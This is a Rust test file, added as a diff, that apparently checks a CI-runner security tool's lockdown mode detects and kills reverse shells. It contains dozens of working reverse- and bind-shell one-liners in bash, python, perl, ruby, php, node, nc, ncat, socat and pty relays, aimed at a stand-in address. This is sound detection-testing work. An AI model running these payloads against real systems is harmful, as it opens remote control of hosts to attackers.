@@ -1,0 +1,331 @@
+//! R1–R4: shells whose standard streams lead to another machine, in many ways. Each kills its job; and B1: what only looks
+//! like one.
+#![expect(
+    clippy::print_stdout,
+    reason = "the evidence of each variant, for whoever runs the test to see"
+)]
+
+mod life;
+
+use anyhow::{Context, Result, ensure};
+use life::{Gate, detections};
+use portcullis_common::event::{DetectionEvent, DetectionType};
+use portcullis_common::policy::LockdownDetection;
+use portcullis_tests::world::network::RUNNER_V4;
+use portcullis_tests::{JobOutcome, JobResult, World, wait_until};
+use std::io::{Read, Write};
+use std::net::{IpAddr, Ipv4Addr, SocketAddr, TcpListener, TcpStream};
+use std::process::{Child, Command, Stdio};
+use std::sync::Arc;
+use std::sync::atomic::{AtomicU64, Ordering};
+use std::thread;
+use std::time::Duration;
+
+/// Everything is reachable and recorded: the case that the gate does not stop.
+const AUDIT: &str = "
+name: hello-audit
+egress-policy: audit
+lockdown-mode:
+  enabled: true
+  detections: [Reverse-Shell]
+attach:
+  - repository: octo/hello
+";
+
+/// Where the peer listens, and how jobs call it.
+const PEER: Ipv4Addr = Ipv4Addr::new(198, 51, 100, 200);
+const PORTS: [u16; 2] = [4444, 5555];
+const TLS_PORT: u16 = 4445;
+
+/// Somebody who waits for shells and gives each one a command after the other.
+struct Peer {
+    /// Answers to commands that arrived.
+    answers: Arc<AtomicU64>,
+    tls: Child,
+    /// Its key and certificate are there for as long as it is.
+    _files: tempfile::TempDir,
+}
+
+impl Peer {
+    fn listen(gate: &Gate) -> Result<Self> {
+        let answers = Arc::<AtomicU64>::default();
+        for port in PORTS {
+            let address = SocketAddr::from((Ipv4Addr::UNSPECIFIED, port));
+            let listener = gate.world.internet().run(|| TcpListener::bind(address))??;
+            let counted = Arc::clone(&answers);
+            thread::spawn(move || {
+                for stream in listener.incoming().flatten() {
+                    let counted = Arc::clone(&counted);
+                    thread::spawn(move || command(&stream, &counted));
+                }
+            });
+        }
+        let files = tempfile::tempdir()?;
+        let path = |name: &str| files.path().join(name).display().to_string();
+        let made = Command::new("openssl")
+            .args([
+                "req",
+                "-x509",
+                "-newkey",
+                "ec",
+                "-pkeyopt",
+                "ec_paramgen_curve:P-256",
+                "-nodes",
+            ])
+            .args(["-subj", "/CN=peer", "-keyout", &path("key"), "-out", &path("certificate")])
+            .stderr(Stdio::null())
+            .status()?;
+        ensure!(made.success(), "openssl can't make a certificate");
+        let tls = Command::new("nsenter")
+            .arg(format!("--net={}", gate.world.internet().path().display()))
+            .args(["openssl", "s_server", "-quiet", "-accept", &TLS_PORT.to_string()])
+            .args(["-key", &path("key"), "-cert", &path("certificate")])
+            .stdin(Stdio::piped())
+            .stdout(Stdio::null())
+            .stderr(Stdio::null())
+            .spawn()?;
+        Ok(Self { answers, tls, _files: files })
+    }
+}
+
+impl Drop for Peer {
+    fn drop(&mut self) {
+        let _ = self.tls.kill();
+        let _ = self.tls.wait();
+    }
+}
+
+/// Sends commands until the connection ends. The answer is no part of the command, for a terminal echoes that.
+fn command(mut stream: &TcpStream, answers: &AtomicU64) {
+    let _ = stream.set_read_timeout(Some(Duration::from_millis(100)));
+    let mut buffer = [0; 4096];
+    // A shell comes some time after its connection; whoever reads before is no shell.
+    for _ in 0..600 {
+        if stream.write_all(b"echo answer-$((40+2))\n").is_err() {
+            return;
+        }
+        loop {
+            match stream.read(&mut buffer) {
+                Ok(0) => return,
+                Ok(length) => {
+                    let text = String::from_utf8_lossy(&buffer[..length]);
+                    let seen = text.matches("answer-42").count() as u64;
+                    answers.fetch_add(seen, Ordering::SeqCst);
+                }
+                // Quiet for a while: the next command.
+                Err(error) if error.kind() == std::io::ErrorKind::WouldBlock => break,
+                Err(_) => return,
+            }
+        }
+    }
+}
+
+fn reverse_shells(result: &[portcullis_common::event::Event]) -> Vec<DetectionEvent> {
+    detections(result)
+        .filter(|found| found.detection == DetectionType::Lockdown(LockdownDetection::ReverseShell))
+        .cloned()
+        .collect()
+}
+
+/// Runs each script as a job of its own, which must be killed for it.
+fn assert_killed(variants: &[(&str, &str)]) -> Result<()> {
+    let gate = Gate::up(World::builder().build()?, &[("audit", AUDIT)])?;
+    let peer = Peer::listen(&gate)?;
+    let mut failures = Vec::new();
+    for (name, script) in variants {
+        let before = peer.answers.load(Ordering::SeqCst);
+        let (result, found) = run(&gate, script)?;
+        let answers = peer.answers.load(Ordering::SeqCst) - before;
+        match check(&result, &found) {
+            Ok(evidence) => println!("{name}: {answers} commands answered; {evidence}"),
+            Err(error) => failures.push(format!("{name}: {error:#}")),
+        }
+    }
+    ensure!(failures.is_empty(), "{}\n{}", failures.join("\n"), gate.monitor.log());
+    Ok(())
+}
+
+fn run(gate: &Gate, script: &str) -> Result<(JobResult, Vec<DetectionEvent>)> {
+    // Long enough for a peer's first commands and for looks at them; a killed job does not wait for it.
+    let job = format!(
+        "set +e; cd \"$RUNNER_TEMP\"; export P={PEER}\n(\n{script}\n) <&0 &\nsleep 15\ntrue"
+    );
+    let result = gate.run(&gate.job(&job))?;
+    let found = reverse_shells(&gate.last_events()?);
+    Ok((result, found))
+}
+
+fn check(result: &JobResult, found: &[DetectionEvent]) -> Result<String> {
+    let first = found.first().with_context(|| format!("not detected; {}", result.log()))?;
+    ensure!(first.is_lockdown, "{first:?}");
+    ensure!(
+        first.evidence.contains(&PEER.to_string()) || first.evidence.contains("203.0.113.66"),
+        "{first:?}"
+    );
+    let process = first.process.as_ref().context("no process")?;
+    ensure!(process.exe.is_some() && !process.argv.is_empty(), "{process:?}");
+    ensure!(
+        process.ancestors.iter().any(|above| above.exe.ends_with("Runner.Worker"))
+            || process.ancestors.len() <= 2,
+        "{process:?}"
+    );
+    ensure!(result.outcome == JobOutcome::Failure, "{:?}", result.outcome);
+    ensure!(result.worker_exit_code == 128 + 9, "exit code {}", result.worker_exit_code);
+    let told = result.annotations.iter().any(|annotation| {
+        annotation.message.contains("Reverse-Shell") && annotation.message.contains("hello-audit")
+    });
+    ensure!(told, "the job's page does not say why: {:?}", result.annotations);
+    Ok(first.evidence.clone())
+}
+
+#[test]
+fn streams_on_the_connection_itself() -> Result<()> {
+    assert_killed(&[
+        ("bash -i with /dev/tcp", "bash -i >& /dev/tcp/$P/4444 0>&1"),
+        (
+            "nothing in argv",
+            "cat >quiet <<'END'\nexec 0<>/dev/tcp/$P/4444 1>&0 2>&0\nexec sh\nEND\nbash quiet",
+        ),
+        (
+            "sh on another descriptor first",
+            "bash -c 'exec 196<>/dev/tcp/$P/4444; sh <&196 >&196 2>&196'",
+        ),
+        (
+            "daemonised",
+            "setsid --fork nohup bash -c 'bash >& /dev/tcp/$P/4444 0>&1' >/dev/null 2>&1",
+        ),
+        ("datagrams", "bash -c 'exec 0<>/dev/udp/$P/4444; exec sh >&0 2>&0'"),
+        (
+            "python",
+            "python3 -c 'import os,socket,subprocess\ns=socket.create_connection((os.environ[\"P\"],4444))\n[os.dup2(s.fileno(),n) for n in (0,1,2)]\nsubprocess.call([\"/bin/sh\",\"-i\"])'",
+        ),
+        (
+            "perl",
+            "perl -e 'use Socket; socket(S,PF_INET,SOCK_STREAM,6); connect(S,sockaddr_in(4444,inet_aton($ENV{P}))); open(STDIN,\"<&S\"); open(STDOUT,\">&S\"); open(STDERR,\">&S\"); exec(\"/bin/sh\")'",
+        ),
+        (
+            "ruby",
+            "ruby -rsocket -e 's=TCPSocket.new(ENV[\"P\"],4444); exec(\"/bin/sh\", in: s, out: s, err: s)'",
+        ),
+        (
+            "php",
+            "php -r '$s=fsockopen(getenv(\"P\"),4444); proc_close(proc_open(\"exec /bin/sh\", [0=>$s,1=>$s,2=>$s], $p));'",
+        ),
+        ("tcl", "echo 'set s [socket $env(P) 4444]; exec sh <@$s >@$s 2>@$s' >t.tcl; tclsh t.tcl"),
+        (
+            "node with the socket as stdio",
+            "node -e 'const s=require(\"net\").connect(4444,process.env.P,()=>require(\"child_process\").spawn(\"/bin/sh\",[],{stdio:[s,s,s]}))'",
+        ),
+        ("nc -e", "nc.traditional -e /bin/sh $P 4444"),
+        (
+            "a shell under another name",
+            "cp /bin/bash compile; bash -c 'exec ./compile 0<>/dev/tcp/$P/4444 >&0 2>&0'",
+        ),
+    ])
+}
+
+#[test]
+fn relays_with_pipes() -> Result<()> {
+    assert_killed(&[
+        ("mkfifo and nc", "mkfifo f; sh -i <f 2>&1 | nc $P 4444 >f"),
+        (
+            "mkfifo and nc under another name",
+            "cp \"$(readlink -f /bin/nc)\" link; mkfifo f; sh <f 2>&1 | ./link $P 4444 >f",
+        ),
+        ("mkfifo and telnet", "mkfifo f; sh -i <f 2>&1 | telnet $P 4444 >f"),
+        (
+            "mkfifo and openssl",
+            "mkfifo f; sh -i <f 2>&1 | openssl s_client -quiet -connect $P:4445 >f 2>/dev/null",
+        ),
+        ("two connections", "nc $P 4444 | sh 2>&1 | nc $P 5555"),
+        ("filters in between", "mkfifo f; cat f | sh 2>&1 | tee log | nc $P 4444 >f"),
+        ("ncat -e", "ncat -e /bin/sh $P 4444"),
+        ("ncat --sh-exec", "ncat --sh-exec 'exec bash' $P 4444"),
+        ("socat with a socket pair", "socat TCP:$P:4444 EXEC:/bin/sh,stderr"),
+        ("socat with pipes", "socat TCP:$P:4444 EXEC:/bin/sh,pipes,stderr"),
+        (
+            "a loop of the shell's own",
+            "bash -c 'exec 5<>/dev/tcp/$P/4444; cat <&5 | while read line; do eval \"$line\" >&5 2>&5; done'",
+        ),
+        (
+            "over loopback",
+            "socat TCP-LISTEN:7777,bind=127.0.0.1,reuseaddr TCP:$P:4444 & until bash -c 'exec 0<>/dev/tcp/127.0.0.1/7777 >&0 2>&0 || exit 1; exec sh'; do sleep 0.1; done",
+        ),
+    ])
+}
+
+#[test]
+fn programs_that_move_data_by_themselves() -> Result<()> {
+    assert_killed(&[
+        (
+            "node",
+            "node -e 'const s=require(\"net\").connect(4444,process.env.P,()=>{const h=require(\"child_process\").spawn(\"/bin/sh\"); s.pipe(h.stdin); h.stdout.pipe(s); h.stderr.pipe(s)})'",
+        ),
+        (
+            "python",
+            "python3 -c 'import os,socket,subprocess,threading\ns=socket.create_connection((os.environ[\"P\"],4444))\np=subprocess.Popen([\"/bin/sh\"],stdin=subprocess.PIPE,stdout=subprocess.PIPE,stderr=subprocess.STDOUT,bufsize=0)\ndef out():\n  while True: s.sendall(p.stdout.read(4096) or exit())\nthreading.Thread(target=out,daemon=True).start()\nwhile True: p.stdin.write(s.recv(4096) or exit())'",
+        ),
+        (
+            "php",
+            "php -r '$s=fsockopen(getenv(\"P\"),4444); $h=proc_open(\"exec /bin/sh\",[[\"pipe\",\"r\"],[\"pipe\",\"w\"],[\"pipe\",\"w\"]],$p); foreach([$s,$p[1],$p[2]] as $x) stream_set_blocking($x,false); while(!feof($s)){ $r=[$s,$p[1],$p[2]]; $w=$e=null; stream_select($r,$w,$e,null); foreach($r as $x){ $d=fread($x,4096); if($x===$s) fwrite($p[0],$d); else fwrite($s,$d);} }'",
+        ),
+        (
+            "perl",
+            "perl -MIPC::Open2 -MIO::Socket::INET -MIO::Select -e '$s=IO::Socket::INET->new(\"$ENV{P}:4444\"); open2($o,$i,\"/bin/sh\"); $l=IO::Select->new($s,$o); while(@r=$l->can_read){ for(@r){ sysread($_,$d,4096) or exit; syswrite($_==$s ? $i : $s, $d) } }'",
+        ),
+    ])
+}
+
+#[test]
+fn terminals() -> Result<()> {
+    assert_killed(&[
+        ("socat with a terminal", "socat TCP:$P:4444 EXEC:/bin/sh,pty,stderr,setsid,sigint,sane"),
+        (
+            "python's pty.spawn",
+            "python3 -c 'import os,pty,socket\ns=socket.create_connection((os.environ[\"P\"],4444))\n[os.dup2(s.fileno(),n) for n in (0,1,2)]\npty.spawn(\"/bin/sh\")'",
+        ),
+        ("script and a fifo", "mkfifo f; script -qfc 'bash -i' /dev/null <f 2>&1 | nc $P 4444 >f"),
+        (
+            "a relay of one's own with a terminal",
+            "python3 -c 'import os,pty,select,socket\ns=socket.create_connection((os.environ[\"P\"],4444))\npid,m=pty.fork()\nif pid==0: os.execv(\"/bin/sh\",[\"sh\"])\nwhile True:\n  for r in select.select([s,m],[],[])[0]:\n    d=os.read(r.fileno() if r is s else r,4096)\n    if not d: exit()\n    os.write(m if r is s else s.fileno(),d)'",
+        ),
+    ])
+}
+
+/// The peer connects to the job.
+#[test]
+fn shells_on_a_listening_port() -> Result<()> {
+    let variants = [
+        ("nc", "nc.traditional -l -p 6001 -e /bin/sh"),
+        ("ncat", "ncat -l 6002 -e /bin/sh"),
+        ("socat with a terminal", "socat TCP-LISTEN:6003,reuseaddr EXEC:bash,pty,stderr,setsid"),
+        (
+            "python",
+            "python3 -c 'import os,socket\nl=socket.create_server((\"\",6004))\ns=l.accept()[0]\n[os.dup2(s.fileno(),n) for n in (0,1,2)]\nos.execv(\"/bin/sh\",[\"sh\"])'",
+        ),
+        ("mkfifo and nc", "mkfifo f; sh <f 2>&1 | nc -l 6005 >f"),
+    ];
+    let gate = Gate::up(World::builder().build()?, &[("audit", AUDIT)])?;
+    let answers = Arc::<AtomicU64>::default();
+    for (port, (name, script)) in (6001..).zip(variants) {
+        let address = SocketAddr::new(IpAddr::V4(RUNNER_V4), port);
+        let (result, found) = thread::scope(|scope| -> Result<_> {
+            let caller = scope.spawn(|| -> Result<()> {
+                let mut connected = None;
+                wait_until("the shell listens", || {
+                    connected = gate.world.attacker().connect(address).ok();
+                    connected.is_some()
+                })?;
+                command(&connected.context("not connected")?, &answers);
+                Ok(())
+            });
+            let run = run(&gate, script)?;
+            caller.join().expect("no panic").with_context(|| name)?;
+            Ok(run)
+        })?;
+        let evidence =
+            check(&result, &found).with_context(|| format!("{name}\n{}", gate.monitor.log()))?;
+        println!("{name}: {evidence}");
+    }
+    Ok(())
+}
